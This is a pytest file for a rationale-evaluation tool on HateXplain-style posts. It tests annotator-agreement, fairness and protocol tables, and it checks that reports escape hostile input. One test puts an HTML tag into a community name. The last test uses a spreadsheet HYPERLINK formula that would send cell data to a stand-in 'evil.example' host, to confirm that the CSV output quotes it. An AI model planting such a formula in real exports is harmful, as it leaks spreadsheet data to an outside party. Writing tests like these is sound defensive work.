"""What runs on data with annotators and communities show beside the rest."""

from __future__ import annotations

from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
import torch

from eraser import Dataset, Document, Evidence, Example, Span
from eraser.metrics.annotators import annotator_agreement, human_ceiling
from eraser.metrics.bias import score_bias
from eraser.official.hatexplain_protocol import score_hatexplain
from rationale.evaluation.plan import evaluate
from rationale.hf.classifier import Classifier
from rationale.report.annotators import annotator_tables
from rationale.report.page import records
from rationale.report.write import write_run
from rationale.settings import EvaluateSettings
from rationale.text.encode import Encoder
from tests.conftest import tiny_model

LABELS = ("hatespeech", "normal", "offensive")
SETTINGS = EvaluateSettings(
    "posts", "tiny", methods=("attention", "random"), budgets=("gold", "top=5"), max_length=64
)


@pytest.fixture(scope="module")
def posts(sample):
    """Posts of eight words; two people mark toxic ones, three communities."""
    words = [w for e in sample.splits["test"][:20] for w in sample.text(e).words]
    rng = np.random.default_rng(0)
    documents, examples = {}, []
    for n in range(30):
        name, label = f"p{n}", LABELS[n % 3]
        documents[name] = Document(name, (tuple(words[8 * n : 8 * n + 8]),))
        spans = [Span(a, a + 2) for a in rng.choice(6, size=2, replace=False).tolist()]
        people = tuple(frozenset({Evidence(name, s)}) for s in spans) if label != "normal" else ()
        gold = frozenset({frozenset().union(*people)}) if people else frozenset()
        tags = frozenset({("<b>African</b>", "Women", "Islam")[n // 3 % 3]})
        examples.append(Example(name, (name,), label, None, gold, people, tags))
    return Dataset("posts", documents, {"train": tuple(examples[:6]), "test": tuple(examples)})


@pytest.fixture(scope="module")
def run(posts, tokenizer, tmp_path_factory):
    model = tiny_model("bert", tokenizer, LABELS).requires_grad_(False)
    classifier = Classifier(model, Encoder(tokenizer, 64), LABELS, torch.device("cpu"))
    return evaluate(classifier, posts, SETTINGS, tmp_path_factory.mktemp("run"))


def test_fairness_is_of_all_posts_and_the_first_methods_probabilities(run, posts):
    table = annotator_tables(run, posts)["fairness"]
    bias = score_bias(posts.splits["test"], run.predictions["random", "top=5"])
    assert table.community.tolist()[1:] == [c.name for c in bias.communities]
    assert table.n.tolist() == [bias.n_targeted, *(c.n for c in bias.communities)]
    for mean in bias.means:
        found = table.iloc[0][[mean.metric, f"{mean.metric}_low", f"{mean.metric}_high"]].tolist()
        assert found == [mean.value, mean.low, mean.high]
    counts = [of["subgroup_auc_communities"] for of in records(table)]  # no 3.000, nor <NA>
    assert counts == [next(m.n for m in bias.means if m.metric == "subgroup_auc")] + [None] * len(
        bias.communities
    )
    assert all(type(count) is int for count in counts[:1])


def test_people_stand_beside_every_method_and_budget(run, posts):
    table = annotator_tables(run, posts)["annotators"]
    people = table[table.method == "people"]
    expected = [
        s.value for o in ("union", "majority") for s in human_ceiling(posts, posts.splits["test"], others=o)
    ]
    assert people.value.tolist() == pytest.approx(expected)
    for (method, budget), predictions in run.predictions.items():
        (row,) = table[(table.method == method) & (table.budget == budget)].itertuples()
        assert row.value == annotator_agreement(posts, posts.splits["test"], predictions).value
        assert row.n == 20


def test_the_protocol_takes_the_budget_of_five_words_where_the_run_has_it(run, posts):
    table = annotator_tables(run, posts)["hatexplain_protocol"].set_index("method")
    for method in SETTINGS.methods:
        expected = score_hatexplain(posts, posts.splits["test"], run.predictions[method, "top=5"])
        assert not np.isnan(expected["Comprehensiveness"])
        assert table.loc[method].to_dict() == pytest.approx(expected)
    without = replace(run, budgets=("gold",))
    assert annotator_tables(without, posts)["hatexplain_protocol"].Comprehensiveness.isna().all()


def test_a_run_writes_them_and_escapes_what_people_wrote(run, posts, tmp_path):
    write_run(run, posts, tmp_path)
    for name in ("fairness", "annotators", "hatexplain_protocol"):
        assert len(pd.read_csv(tmp_path / f"{name}.csv")) > 1
    page = (tmp_path / "report.html").read_text()
    assert "&lt;b&gt;African&lt;/b&gt;" in page
    assert "<b>African</b>" not in page
    assert "Hatexplain" not in page


def test_data_without_people_or_communities_have_none(run, posts, tmp_path):
    bare = tuple(replace(e, annotators=(), tags=frozenset()) for e in posts.splits["test"])
    items = tuple(replace(i, example=e) for i, e in zip(run.items, bare, strict=True))
    assert annotator_tables(replace(run, items=items), posts) == {}
    write_run(run, posts, tmp_path)
    write_run(replace(run, items=items), posts, tmp_path)
    assert not (tmp_path / "fairness.csv").exists()


def test_data_without_any_marks_are_evaluated_and_write_no_official_predictions(run, posts, tmp_path):
    write_run(run, posts, tmp_path)
    assert len(list((tmp_path / "predictions").iterdir())) == 2
    bare = [replace(i, truth=replace(i.truth, spans=frozenset())) for i in run.items]
    scores = write_run(replace(run, items=tuple(bare)), posts, tmp_path).scores
    assert not (tmp_path / "predictions").exists()
    rows = scores.set_index(["metric", "method", "budget"])
    assert rows.loc[("token_f1", "attention", "gold"), "n"] == 0
    assert rows.loc[("aopc_comprehensiveness", "attention", "-"), "n"] == 30
    summary = (tmp_path / "summary.md").read_text()
    assert "nan" not in summary
    assert "| – |" in summary


def test_a_table_that_cannot_be_made_says_why_and_ends_nothing(run, posts, tmp_path):
    odd = tuple(replace(i, example=replace(i.example, tags=frozenset({"Other"}))) for i in run.items)
    assert "fairness" not in annotator_tables(replace(run, items=odd), posts)
    nobody = {key: tuple(replace(p, label="unsure") for p in rows) for key, rows in run.predictions.items()}
    table = annotator_tables(replace(run, predictions=nobody), posts)["hatexplain_protocol"]
    assert table.columns.tolist() == ["not made"]
    assert "unsure" in table["not made"][0]


def test_a_community_that_a_spreadsheet_would_run_is_quoted_in_the_table(run, posts, tmp_path):
    link = '=HYPERLINK("http://evil.example/"&A1,"x")'
    odd = tuple(replace(i, example=replace(i.example, tags=frozenset({link}))) for i in run.items)
    write_run(replace(run, items=odd), posts, tmp_path)
    assert f"'{link}" in pd.read_csv(tmp_path / "fairness.csv").community.tolist()
